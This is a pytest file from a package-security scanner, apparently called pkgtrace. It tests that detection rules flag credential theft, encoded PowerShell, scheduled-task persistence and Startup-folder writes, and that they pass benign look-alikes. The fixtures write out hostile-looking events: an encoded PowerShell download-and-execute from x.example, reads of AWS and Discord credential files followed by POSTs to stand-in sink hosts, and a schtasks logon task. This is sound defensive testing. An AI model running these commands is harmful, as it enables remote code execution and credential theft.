@@ -1,0 +1,205 @@
+"""Dynamic rules in context: who acted, in which phase and world, and what followed.
+
+Over the recorded benign report (tests/fixtures/verdict) with events added: each context rule
+fires on the evasion and not on its benign look-alike (an SDK reading its own credentials in
+execute with nothing sent, a build chmod-ing folders, a cache folder)."""
+
+from __future__ import annotations
+
+import base64
+import copy
+
+import pytest
+
+from pkgtrace.verdict import judge
+
+from .test_dynamic_rules import BENIGN, recorded
+
+
+def _b64(s: str) -> str:
+    return base64.b64encode(s.encode()).decode()
+
+
+def _ps_enc(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+def _cmd(*argv):
+    return {"pid": 77, "argv": list(argv), "env": [], "exe": argv[0], "time": "00:00:00"}
+
+
+def _read(path):
+    return {"path": path, "read": True, "write": False, "delete": False}
+
+
+def _http(host, target="/up", method="POST"):
+    return {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": host,
+            "http": {"method": method, "target": target, "host": host, "headers": []}}
+
+
+AWS = "/root/.aws/credentials"
+DISCORD = "/root/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb"
+
+# rule: (phase, [(list, event)…] that must fire it, [(list, event)…] look-alike that must not)
+CONTEXT_EVENTS = {
+    "DYN-BAIT-READ-EXECUTE": ("execute", [("files", _read(AWS))],
+                              [("files", _read("/root/.aws/config"))]),
+    "DYN-CREDENTIAL-THEFT": ("execute", [("files", _read(AWS)), ("network", _http("collect.example"))],
+                             [("files", _read(AWS))]),
+    "DYN-WINDOWS-TOOL": ("import", [("commands", _cmd("/bin/sh", "-c", "wmic csproduct get uuid")),
+                                    ("commands", _cmd("wmic", "csproduct", "get", "uuid"))],
+                         [("commands", _cmd("/usr/bin/uname", "-a"))]),
+    "DYN-POWERSHELL-ENCODED": ("import", [("commands", _cmd("powershell.exe", "-NoP", "-enc",
+                                                            _ps_enc("Get-Process")))],
+                               [("commands", _cmd("powershell", "-NoProfile", "-Command", "Get-Date"))]),
+    "DYN-WINDOWS-PERSISTENCE": ("install", [("commands", _cmd(
+        "schtasks", "/create", "/tn", "Updater", "/tr", "C:\\Users\\x\\AppData\\upd.exe", "/sc", "onlogon"))],
+                                [("commands", _cmd("schtasks", "/query"))]),
+    "DYN-WINDOWS-PERSISTENCE-ENCODED": ("import", [("commands", _cmd(
+        "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
+                                        [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
+    "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
+        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "pkgtrace-placeholder.example",
+        "http": {"method": "POST", "target": "/", "host": "pkgtrace-placeholder.example", "headers": [],
+                 "body_b64": _b64("BAIT_AWS_SECRET")}})],
+                                  [("network", _http("pkgtrace-placeholder.example"))]),
+    "DYN-PERSONA-STARTUP-WRITE": ("import", [("files", {
+        "path": "/root/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.bat",
+        "read": False, "write": True, "delete": False})],
+                                  [("files", {"path": "/root/AppData/Local/Temp/pip-x.log", "read": False,
+                                              "write": True, "delete": False})]),
+}
+
+
+def _with(events, phase: str, world: str | None = None) -> dict:
+    docs = recorded(BENIGN)
+    del docs["dynamic"]  # the report section is the richer source
+    dyn = docs["report"]["dynamic"]
+    dyn["bait"]["values"].append({"what": "aws_secret_access_key", "value": "BAIT_AWS_SECRET"})
+    empty = copy.deepcopy(dyn["phases"]["import"]) | {"files": [], "commands": [], "network": [], "dns": [],
+                                                       "file_events": [], "left_running": [], "failed": []}
+    if world:
+        target = dyn.setdefault("worlds", {}).setdefault(world, {"phases": {}})["phases"]
+        target[phase] = copy.deepcopy(empty)
+    else:
+        target = dyn["phases"]
+        target.setdefault(phase, copy.deepcopy(empty))
+    for key, event in events:
+        target[phase].setdefault(key, []).append(event)
+    return docs
+
+
+@pytest.mark.parametrize("rule", sorted(CONTEXT_EVENTS))
+def test_context_rule_fires_on_event_and_not_on_lookalike(rule):
+    phase, bad, good = CONTEXT_EVENTS[rule]
+    v = judge(_with(bad, phase), suppressions=[])
+    assert rule in v["rules_fired"], v["findings"]
+    f = next(f for f in v["findings"] if f["rule"] == rule)
+    assert f["source"] == "dynamic" and f["phase"] == phase and f["evidence"]
+    v = judge(_with(good, phase), suppressions=[])
+    assert rule not in v["rules_fired"], v["findings"]
+
+
+def test_sdk_reading_its_own_credentials_in_execute_is_benign():
+    v = judge(_with([("files", _read(AWS)), ("files", _read("/root/.pypirc"))], "execute"), suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    assert "DYN-BAIT-READ" not in v["rules_fired"]
+
+
+def test_the_same_read_followed_by_a_send_is_theft():
+    v = judge(_with([("files", _read(AWS)), ("network", _http("sink.example"))], "execute"), suppressions=[])
+    assert v["label"] == "malicious", v["findings"]
+    theft = next(f for f in v["findings"] if f["rule"] == "DYN-CREDENTIAL-THEFT")
+    assert AWS in theft["evidence"]["read"] and "sink.example" in theft["evidence"]["sent"]
+
+
+def test_a_call_pkgtrace_pointed_at_its_own_destination_is_not_network_or_theft():
+    # an HTTP client's get(url) in execute, after an SDK read: pkgtrace chose that destination
+    v = judge(_with([("files", _read(AWS)), ("network", _http("pkgtrace-placeholder.example"))], "execute"),
+              suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    assert not {"DYN-NETWORK-EXECUTE", "DYN-CREDENTIAL-THEFT"} & set(v["rules_fired"])
+
+
+def test_a_send_to_the_registry_after_a_read_is_not_theft():
+    allowed = {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"}, "allowed": True}
+    v = judge(_with([("files", _read(AWS)), ("network", allowed)], "execute"), suppressions=[])
+    assert "DYN-CREDENTIAL-THEFT" not in v["rules_fired"]
+
+
+def test_credentials_read_at_install_or_import_stay_critical():
+    for phase in ("install", "import"):
+        v = judge(_with([("files", _read(DISCORD))], phase), suppressions=[])
+        assert "DYN-BAIT-READ" in v["rules_fired"] and v["label"] == "malicious", (phase, v["findings"])
+
+
+def test_chmod_of_a_folder_is_not_a_dropped_executable():
+    folder = [("file_events", {"op": "mkdir", "path": "/tmp/_jinja2-cache-0"}),
+              ("file_events", {"op": "chmod", "path": "/tmp/_jinja2-cache-0", "mode": "0o700", "executable": True})]
+    v = judge(_with(folder, "execute"), suppressions=[])
+    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
+    # a build's folder whose files were written into (frozenlist, yarl) is a folder too
+    build = [("files", {"path": "/tmp/build-x7/frozenlist/_frozenlist.c", "read": False, "write": True,
+                        "delete": False}),
+             ("file_events", {"op": "chmod", "path": "/tmp/build-x7/frozenlist", "mode": "0o755",
+                              "executable": True})]
+    v = judge(_with(build, "install"), suppressions=[])
+    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
+    # evasion: a file named like a folder, with nothing inside it, is still a dropped executable
+    drop = [("file_events", {"op": "chmod", "path": "/tmp/_jinja2-cache-0", "mode": "0o755", "executable": True})]
+    v = judge(_with(drop, "install"), suppressions=[])
+    assert "DYN-DROP-EXECUTABLE" in v["rules_fired"]
+
+
+def test_behaviour_seen_only_in_another_world_is_judged_and_says_where():
+    v = judge(_with([("files", _read(AWS)), ("network", _http("ci-sink.example"))], "import", world="ci"),
+              suppressions=[])
+    assert v["label"] == "malicious", v["findings"]
+    f = next(f for f in v["findings"] if f["rule"] == "DYN-BAIT-READ")
+    assert f["evidence"]["world"] == "ci" and f["phase"] == "import"
+
+
+# Recorded from real popular releases (see each fixture's "recorded" field): the benign look-alikes
+# the issue names. boto3 and distlib read their own credentials when their functions are called;
+# jinja2 makes its bytecode cache folder private (chmod 0700, the x bit of a folder).
+LOOKALIKES = {"dynamic-pypi-boto3-benign.json": AWS, "dynamic-pypi-distlib-benign.json": "/root/.pypirc",
+              "dynamic-pypi-jinja2-benign.json": None}
+
+
+def _recorded_lookalike(name: str) -> dict:
+    import json
+    from pathlib import Path
+    doc = json.loads((Path(__file__).parent.parent / "fixtures" / "verdict" / name).read_text())
+    return {"report": doc["report"]}
+
+
+@pytest.mark.parametrize("name", sorted(LOOKALIKES))
+def test_recorded_popular_lookalikes_are_benign(name):
+    docs = _recorded_lookalike(name)
+    execute = docs["report"]["dynamic"]["phases"]["execute"]
+    read = LOOKALIKES[name]
+    if read:  # the recording really holds the SDK's read in execute
+        assert read in {f["path"] for f in execute["files"] if f["read"]}
+    else:
+        assert any(e["op"] == "chmod" and e["executable"] for e in execute["file_events"])
+    v = judge(docs, suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    assert set(v["rules_fired"]) <= {"DYN-BAIT-READ-EXECUTE"}
+
+
+@pytest.mark.parametrize("name", sorted(n for n, r in LOOKALIKES.items() if r))
+def test_recorded_sdk_read_followed_by_an_upload_is_theft(name):
+    # the evasion: the same run with the credentials then sent to a host of the package's choosing
+    docs = _recorded_lookalike(name)
+    docs["report"]["dynamic"]["phases"]["execute"]["network"].append(_http("sink.example"))
+    v = judge(docs, suppressions=[])
+    assert "DYN-CREDENTIAL-THEFT" in v["rules_fired"] and v["label"] == "malicious"
+
+
+def test_recorded_cache_folder_chmod_is_benign_but_a_chmod_file_outside_is_not():
+    docs = _recorded_lookalike("dynamic-pypi-jinja2-benign.json")
+    events = docs["report"]["dynamic"]["phases"]["execute"]["file_events"]
+    events.append({"op": "chmod", "path": "/tmp/.x/payload", "mode": "0o755", "executable": True})
+    v = judge(docs, suppressions=[])
+    hits = [f for f in v["findings"] if f["rule"] == "DYN-DROP-EXECUTABLE"]
+    assert [f["evidence"]["path"] for f in hits] == ["/tmp/.x/payload"]
